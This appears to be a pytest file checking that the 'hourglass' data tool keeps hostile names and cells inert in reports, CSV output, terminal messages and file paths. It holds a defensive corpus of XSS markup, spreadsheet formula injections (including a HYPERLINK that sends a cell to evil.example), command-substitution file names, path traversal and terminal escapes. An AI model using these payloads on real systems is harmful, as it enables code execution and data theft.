"""Names and cells that mean to do something: they stay words in every page, file and line that we write."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterable, Sequence
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from commands import Command
from PIL import Image
from refusals import QUICK, check_refused, files_below, given

from hourglass.data.files import read
from hourglass.data.samples import Frame
from hourglass.data.writing import write_table

pytestmark = pytest.mark.reliability(7)

Models = Callable[[str], Path]
ROOT = Path(__file__).resolve().parents[2]
MARKUP = {
    "a script": "<script>window.hacked=1</script>",
    "the end of a script": "</script><script>window.hacked=1</script>",
    "a picture that fails": '<img src=x onerror="window.hacked=1">',
    "a quote and a handler": '" onmouseover="window.hacked=1',
    "an apostrophe and a handler": "' onfocus='window.hacked=1' autofocus='",
    "the end of a CDATA": "]]><script>window.hacked=1</script>",
    "a comment": "<!--",
    "a template": "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "a drawing": "<svg onload=window.hacked=1>",
    "an address": "<a href='javascript:window.hacked=1'>x</a>",
}
FORMULAS = {
    "a call": "=cmd|' /c calc'!A0",
    "a link": '=HYPERLINK("https://evil.example/?"&A1,"more")',
    "a plus": "+1+cmd|' /c calc'!A0",
    "a minus": "-2+3+cmd|' /c calc'!A0",
    "an at": "@SUM(1+1)*cmd|' /c calc'!A0",
    "a wide letter": "＝1+1",
    "an apostrophe of its own": "'=1+1",
    "two apostrophes": "''=1+1",
}
ODD = {
    "a line break": "two\nlines",
    "a tab": "two\tcells",
    "marks that turn text around": "abc\u202etxt.exe\u2066",
    "a name as a path": "../../etc/passwd",
    "a terminal's orders": "\x1b[2J\x1b]0;hacked\x07",
    "nothing that is seen": "\u200b",
    "a number of fields": "a,b;c|d",
    "a word for nothing": "null",
    "a percent sign": "%{x}%s%n",
    "a very long name": "x" * 5_000,
}
HOSTILE = {**MARKUP, **FORMULAS, **ODD}


class Elements(HTMLParser):
    """What a browser would find in a page: its elements, attributes and scripts."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def table_of(words: Sequence[str], rows: int = 60) -> pa.Table:
    """A table in which a column is called by each of the words, and every cell of another is one of them."""
    random = np.random.default_rng(0)
    x = random.normal(size=rows)
    x[7] = 30.0
    numbers = {name: place + x + 0.1 * random.normal(size=rows) for place, name in enumerate(words)}
    return pa.table({**numbers, "c": [words[place % len(words)] for place in range(rows)]})


def hostile_csv(path: Path, words: Sequence[str]) -> Path:
    """The same table as a file that some other program wrote, which neutralises nothing."""
    with path.open("w", newline="", encoding="utf-8") as file:
        table = table_of(words)
        csv.writer(file).writerows([table.column_names, *(row.values() for row in table.to_pylist())])
    return path


def formulas_in(cells: Iterable[str]) -> list[str]:
    """The cells that a spreadsheet would run."""
    text = [cell for cell in cells if not re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?", cell)]
    return [cell for cell in text if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))]


GROUPS = {"markup": list(MARKUP.values()), "formulas": list(FORMULAS.values()), "odd words": list(ODD.values())}


@pytest.mark.parametrize("group", GROUPS)
def test_a_report_shows_them_as_words(hourglass: Command, tmp_path: Path, group: str) -> None:
    """No element, attribute or script but those of a report on harmless names."""
    pages = []
    for words in (GROUPS[group], [f"harmless{place}" for place in range(len(GROUPS[group]))]):
        data, report = hostile_csv(tmp_path / "data.csv", words), tmp_path / "report.html"
        done = hourglass("detect", data, "-o", tmp_path / "scores.csv", "--report", report, *QUICK)
        assert done.code == 0, done.err
        pages.append(report.read_text(encoding="utf-8"))
    hostile, harmless = (Elements(page).found for page in pages)
    assert {tag for tag, _ in hostile} <= {tag for tag, _ in harmless} | {"ul", "li"}  # a list of notices
    assert {key for _, keys in hostile for key in keys} == {key for _, keys in harmless for key in keys}
    for tag in ("script", "img", "svg", "style", "a"):
        assert [each for each, _ in hostile].count(tag) == [each for each, _ in harmless].count(tag)
    for spec in re.findall(r'<script type="application/json" class="figure">(.*?)</script>', pages[0], re.DOTALL):
        json.loads(spec)


@pytest.mark.parametrize("group", GROUPS)
def test_every_result_is_still_what_its_suffix_says(hourglass: Command, tmp_path: Path, group: str) -> None:
    data, model = hostile_csv(tmp_path / "data.csv", GROUPS[group]), tmp_path / "model.safetensors"
    assert hourglass("fit", data, "-o", model, *QUICK).code == 0
    for suffix in ("csv", "jsonl"):
        done = hourglass("detect", model, data, "-o", tmp_path / f"scores.{suffix}", "--reasons", "all", "--json")
        assert done.code == 0, done.err
        json.loads(done.out)
    lines = list(csv.reader(io.StringIO((tmp_path / "scores.csv").read_text(encoding="utf-8"), newline="")))
    assert len(lines) == 61
    assert {len(line) for line in lines} == {5}
    rows = [json.loads(line) for line in (tmp_path / "scores.jsonl").read_text(encoding="utf-8").split("\n")[:-1]]
    assert len(rows) == 60
    assert files_below(tmp_path) == {"data.csv", "model.safetensors", "scores.csv", "scores.jsonl"}
    assert "\x1b" not in hourglass("inspect", model).out


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_a_csv_is_a_formula_and_all_come_back(tmp_path: Path, name: str) -> None:
    words = HOSTILE[name]
    table, path = table_of([words, "b"]), tmp_path / "table.csv"
    write_table(table, path)
    with path.open(newline="", encoding="utf-8") as file:
        assert formulas_in(cell for row in csv.reader(file) for cell in row) == []
    again = read(path)
    assert isinstance(again, Frame)
    if words != "null":  # which means nothing in any CSV
        assert again.table.column("c").to_pylist() == [cell.strip() for cell in table.column("c").to_pylist()]
    assert again.table.column_names == [words.strip(), "b", "c"]


def test_no_verb_writes_a_formula(hourglass: Command, tmp_path: Path) -> None:
    data, model = hostile_csv(tmp_path / "data.csv", GROUPS["formulas"]), tmp_path / "model.safetensors"
    assert hourglass("fit", data, "-o", model, *QUICK).code == 0
    written = {}
    for verb in ("reconstruct", "encode", "generate", "detect"):
        done = hourglass(verb, model, *([] if verb == "generate" else [data]))
        assert done.code == 0, done.err
        written[verb] = done.out
        assert formulas_in(cell for row in csv.reader(io.StringIO(done.out, newline="")) for cell in row) == []
    again = tmp_path / "again.csv"
    again.write_text(written["reconstruct"], encoding="utf-8")
    done = hourglass("detect", model, again, "--json")
    assert done.code == 0, done.err
    assert "unknown to the model" not in done.out, "the names came back as they were"


@pytest.mark.parametrize("group", GROUPS)
def test_the_terminal_gets_no_orders(hourglass: Command, tmp_path: Path, group: str) -> None:
    data = hostile_csv(tmp_path / "data.csv", GROUPS[group])
    done = hourglass("detect", data, "-o", tmp_path / "scores.csv", "--reasons", "all", *QUICK)
    told = [done.err]
    for words in GROUPS[group]:
        refused = hourglass("detect", data, "-o", tmp_path / "scores.csv", *QUICK, f"--label={words}x")
        assert refused.code == 2, refused.err
        told.append(refused.err)
    assert done.code == 0, done.err
    for said in told:
        assert not [mark for mark in said if mark != "\n" and (ord(mark) < 32 or 127 <= ord(mark) < 160)]
        assert not set(said) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


NAMES = ["a\nb.csv", "\x1b[2J.csv", "‮gpj.csv", "<script>.csv", "=1+1.csv", "$(touch hacked).csv", "%s%n.csv", "-o.csv"]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_hostile_name_of_a_file_is_one_line_of_words(
    hourglass: Command, tmp_path: Path, out: Path, name: str
) -> None:
    path = tmp_path / name
    path.write_text("a,b\n1,2\n3\n")
    done = hourglass("fit", path, "-o", out / "new", *QUICK)
    check_refused(done, ("line 3",), out)
    assert len(done.err.rstrip("\n").split("\n")) == 2
    assert not [mark for mark in done.err if mark != "\n" and ord(mark) < 32]
    assert "\u202e" not in done.err
    done = hourglass("fit", tmp_path / "absent" / name, "-o", out / "new", *QUICK)
    assert done.code == 3
    assert "\x1b" not in done.err


LEADING_OUT = ["../slipped.png", "/tmp/slipped.png", "a/../../slipped.png", "..", ""]


@pytest.mark.parametrize("name", LEADING_OUT, ids=range(len(LEADING_OUT)))
def test_names_of_pictures_lead_nowhere(
    hourglass: Command, model_of: Models, tmp_path: Path, out: Path, name: str
) -> None:
    codes = tmp_path / "codes.csv"
    done = given(hourglass, "encode", Path(tmp_path / "x.png"), tmp_path, model_of("pictures"))
    latent = json.loads(hourglass("inspect", model_of("pictures"), "--json").out)["latent"]
    header = ",".join(["name", *(f"latent{place}" for place in range(latent))])
    codes.write_text(f"{header}\n{name}{',0.5' * latent}\nb.png{',0.1' * latent}\n")
    before = files_below(tmp_path)
    done = hourglass("decode", model_of("pictures"), codes, "-o", out / "made")
    assert done.code in (0, 3), done.err
    new = files_below(tmp_path) - before
    assert all(file.startswith("out/made/") for file in new)
    assert not Path("/tmp/slipped.png").exists()


def test_hostile_names_in_a_folder_stay_in_the_folder(
    hourglass: Command, model_of: Models, tmp_path: Path, out: Path
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    names = ["=1+1.png", "a\nb.png", "<b>.png", "'quoted'.png", "$(touch hacked).png", "‮gnp.png", "-rf.png"]
    for name in names:
        Image.fromarray(np.full((8, 8), 99, dtype=np.uint8)).save(folder / name)
    assert hourglass("reconstruct", model_of("pictures"), folder, "-o", out / "made").code == 0
    assert files_below(out) == {f"made/{name}" for name in names} | {"made/_manifest.json"}
    done = hourglass("detect", model_of("pictures"), folder, "-o", out / "scores.csv")
    assert done.code == 0
    with (out / "scores.csv").open(newline="", encoding="utf-8") as file:
        found = [row["name"] for row in csv.DictReader(file)]
    assert not [name for name in found if name.startswith(("=", "-"))]
    assert "\u202e" not in done.err


SHADOWS = ("json", "torch", "numpy", "typing", "csv", "random", "pyarrow", "typer", "hourglass", "sitecustomize")


def test_the_command_works_among_files_called_as_its_modules(samples: Path, tmp_path: Path) -> None:
    command = Path(sys.executable).with_name("hourglass")
    if not command.exists():
        pytest.skip(f"needs the installed command, and there is no {command.name} beside this Python")
    for name in SHADOWS:
        (tmp_path / f"{name}.py").write_text("raise SystemExit('a file of the working folder was run')\n")
    for name in ("triton", "scipy", "safetensors"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "__init__.py").write_text("raise SystemExit('a file of the working folder was run')\n")
    shutil.copy(samples / "numbers.csv", tmp_path / "data.csv")
    environment = {name: value for name, value in os.environ.items() if name not in ("PYTHONPATH", "PYTHONSAFEPATH")}
    done = subprocess.run(
        [command, "detect", "data.csv", "-o", "scores.csv", *QUICK],
        cwd=tmp_path,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert len((tmp_path / "scores.csv").read_text().splitlines()) == 301
